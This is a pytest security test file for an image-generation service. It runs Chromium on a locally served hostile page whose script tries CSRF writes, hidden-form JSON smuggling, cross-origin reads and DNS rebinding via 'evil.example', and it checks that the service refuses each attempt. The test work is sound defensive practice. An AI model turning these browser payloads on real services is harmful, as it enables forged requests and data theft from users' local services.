"""A real browser on pages that mean harm: nothing is drawn for them, and they learn nothing."""

import contextlib
import http.client
import json
import os
import queue
import re
import shutil
import signal
import subprocess
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from schemas import ErrorCode
from tests.chromium import QUIET

PATIENCE_S = 60.0
BODY = '{"prompt": "drawn for a stranger", "width": 256, "height": 256}'
REBOUND = "evil.example"
WRITE = ("POST", "/generate/async")
ALONE = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
"""A browser has calls of its own to make; here it makes none."""

ATTACKS = """
<!doctype html><title>harmless</title><body><script>
const target = TARGET, job = JOB, body = BODY, told = {};
const draw = target + "/generate/async";
const json = {"Content-Type": "application/json"};

async function tell(name, attempt) {
  try { told[name] = await attempt(); } catch (error) { told[name] = "blocked"; }
}
async function read(url, options) {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
}
function loaded(element) {
  return new Promise((yes) => {
    element.onload = () => yes("loaded");
    element.onerror = () => yes("blocked");
    document.body.append(element);
  });
}
async function form(enctype, fields) {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  const sent = document.createElement("form");
  Object.assign(sent, {method: "POST", action: draw, enctype: enctype, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, {type: "hidden", name: name, value: value});
    sent.append(field);
  }
  document.body.append(sent);
  const answered = new Promise((yes) => { frame.onload = yes; });
  sent.submit();
  await answered;
  return frame.contentDocument === null ? "hidden" : frame.contentDocument.body.innerText;
}
async function events() {
  const source = new EventSource(target + "/job/" + job + "/events");
  return new Promise((yes) => {
    source.onerror = () => { source.close(); yes("blocked"); };
    source.addEventListener("succeeded", (event) => { source.close(); yes(event.data); });
  });
}
async function attack() {
  const image = target + "/job/" + job + "/image";
  await tell("json", () => read(draw, {method: "POST", headers: json, body: body}));
  await tell("plain", () => read(draw, {method: "POST", mode: "no-cors", body: body}));
  await tell("cors plain", () => read(draw, {method: "POST", body: body}));
  await tell("beacon", () => { navigator.sendBeacon(draw, body); return "sent"; });
  await tell("form", () => form("application/x-www-form-urlencoded", {prompt: "stranger"}));
  await tell("plain form", () => form("text/plain", {'{"prompt": "stranger", "x": "': '"}'}));
  await tell("cancel", () => read(target + "/job/" + job, {method: "DELETE"}));
  await tell("jobs", () => read(target + "/jobs"));
  await tell("jobs unread", () => read(target + "/jobs", {mode: "no-cors"}));
  await tell("events", events);
  await tell("image", () => loaded(Object.assign(new Image(), {src: image})));
  const script = document.createElement("script");
  await tell("script", () => loaded(Object.assign(script, {src: target + "/jobs"})));
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
}
attack();
</script>
"""


class Stranger:
    """A web server of somebody else's: its page attacks, reports, and may stand before a target.

    What it does not know it hands to `behind` with every header as it came: for a browser that is
    a name which led to the stranger first, and to the service afterwards (DNS rebinding).
    """

    def __init__(self, behind=None):
        self.page, self.reports, self.seen = "", queue.Queue(), []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler(behind))
        self._thread = threading.Thread(target=self._server.serve_forever)
        self.port = self._server.server_port

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def attacks(self, target, job):
        """Serve the page with this target."""
        words = {"TARGET": target, "JOB": job, "BODY": BODY}
        self.page = re.sub(
            r"\b(TARGET|JOB|BODY)\b", lambda found: json.dumps(words[found[1]]), ATTACKS
        )
        return self

    def _handler(self, behind):
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                length = int(self.headers.get("Content-Length", 0))
                body = self.rfile.read(length)
                if self.path == "/page":
                    self._answer(200, "text/html", stranger.page.encode())
                elif self.path == "/report":
                    stranger.reports.put(json.loads(body))
                    self._answer(200, "text/plain", b"")
                else:
                    stranger.seen.append((self.command, self.path, body.decode().strip()))
                    if behind is None:
                        self._answer(200, "image/png", b"")
                    else:
                        self._hand_over(body)

            do_POST = do_DELETE = do_OPTIONS = do_GET  # noqa: N815 - names of http.server

            def _hand_over(self, body):
                connection = http.client.HTTPConnection("127.0.0.1", behind, timeout=PATIENCE_S)
                with contextlib.closing(connection):
                    connection.request(self.command, self.path, body, dict(self.headers))
                    answer = connection.getresponse()
                    self._answer(answer.status, answer.headers["Content-Type"], answer.read())

            def _answer(self, status, content_type, body):
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        return Handler


@contextlib.contextmanager
def browsing(folder, url, rules):
    """Have a browser on a page, for as long as it is needed."""
    program = shutil.which("chromium") or shutil.which("google-chrome")
    assert program, "no browser is installed: apt-get install chromium"
    browser = subprocess.Popen(
        [program, *QUIET, f"--user-data-dir={folder / 'profile'}", rules, url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


def attacked(stranger, folder, url, rules=ALONE):
    """What the page found, once it has tried everything."""
    with browsing(folder, url, rules):
        return stranger.reports.get(timeout=PATIENCE_S)


def call(service, path, body=None):
    """Ask the service as a program does."""
    request = urllib.request.Request(
        f"http://127.0.0.1:{service.port}{path}",
        data=body and body.encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=PATIENCE_S) as answer:
        return json.loads(answer.read())


def traces(service):
    """What a request that was taken leaves behind: jobs, and deliveries from the broker."""
    metrics = service.get("/metrics")[2].decode()
    deliveries = re.findall(r"^imagegen_deliveries.*$", metrics, re.MULTILINE)
    return call(service, "/jobs"), deliveries


@pytest.fixture
def drawn(service):
    """A job of the owner's: the same request, from a program, is drawn."""
    return call(service, "/generate", BODY)["job_id"]


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_from_elsewhere_has_nothing_drawn_and_learns_nothing(
    service, drawn, tmp_path, name
):
    """From another port and from another name: every way to write or read is refused or hidden."""
    before = traces(service)
    with Stranger() as stranger:
        stranger.attacks(f"http://127.0.0.1:{service.port}", drawn)
        told = attacked(stranger, tmp_path, f"http://{name}:{stranger.port}/page")
    assert told == {
        "json": "blocked",
        "plain": "blocked",
        "cors plain": "blocked",
        "beacon": "sent",
        "form": "hidden",
        "plain form": "hidden",
        "cancel": "blocked",
        "jobs": "blocked",
        "jobs unread": "blocked",
        "events": "blocked",
        "image": "blocked",
        "script": "blocked",
    }
    assert traces(service) == before


def test_the_attacks_are_real(tmp_path):
    """A server that guards nothing gets what the page sends: so it is ours that refuses."""
    with Stranger() as victim, Stranger() as stranger:
        stranger.attacks(f"http://127.0.0.1:{victim.port}", "any")
        told = attacked(stranger, tmp_path, f"http://127.0.0.1:{stranger.port}/page")
    posted = [body for method, path, body in victim.seen if (method, path) == WRITE]
    assert posted.count(BODY) == 3  # plain, cors plain, beacon
    assert "prompt=stranger" in posted
    assert '{"prompt": "stranger", "x": "="}' in posted
    assert ("GET", "/job/any/image", "") in victim.seen
    assert told["jobs unread"] == "opaque"


def test_a_rebound_name_is_no_way_in(service, drawn, tmp_path):
    """A name that led to the stranger and now leads to us: same origin for the browser, 403 here."""
    before = traces(service)
    with Stranger(behind=service.port) as stranger:
        origin = f"http://{REBOUND}:{stranger.port}"
        stranger.attacks(origin, drawn)
        rules = f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"
        told = attacked(stranger, tmp_path, f"{origin}/page", rules)
    refused = {name: answer for name, answer in told.items() if answer.startswith("403 ")}
    assert refused.keys() >= {"json", "plain", "cors plain", "cancel", "jobs"}
    for answer in refused.values():
        assert json.loads(answer.removeprefix("403 "))["code"] == ErrorCode.FORBIDDEN
    assert (told["events"], told["image"], told["script"]) == ("blocked",) * 3
    assert traces(service) == before


def test_the_page_of_documentation_needs_nothing_else(service, tmp_path):
    """/docs is shown, has nothing fetched, and nothing of it offends its policy."""
    log, url = tmp_path / "net.json", f"http://127.0.0.1:{service.port}/docs"
    done = subprocess.run(
        [
            shutil.which("chromium"),
            *QUIET,
            f"--user-data-dir={tmp_path / 'profile'}",
            ALONE,
            f"--log-net-log={log}",
            "--enable-logging=stderr",
            "--dump-dom",
            url,
        ],
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=True,
    )
    for code in ErrorCode:
        assert f'id="{code}"' in done.stdout
    assert "CONSOLE" not in done.stderr
    fetched = _fetched(log)
    assert url in fetched
    origin = url.removesuffix("/docs")
    assert [wanted for wanted, by in fetched.items() if by == origin] == []


def _fetched(log: Path):
    """Every URL that the browser asked for, and the origin whose page wanted it."""
    noted = json.loads(log.read_text())
    kind = noted["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    return {
        event["params"]["url"]: event["params"]["initiator"]
        for event in noted["events"]
        if event["type"] == kind and "url" in event.get("params", {})
    }
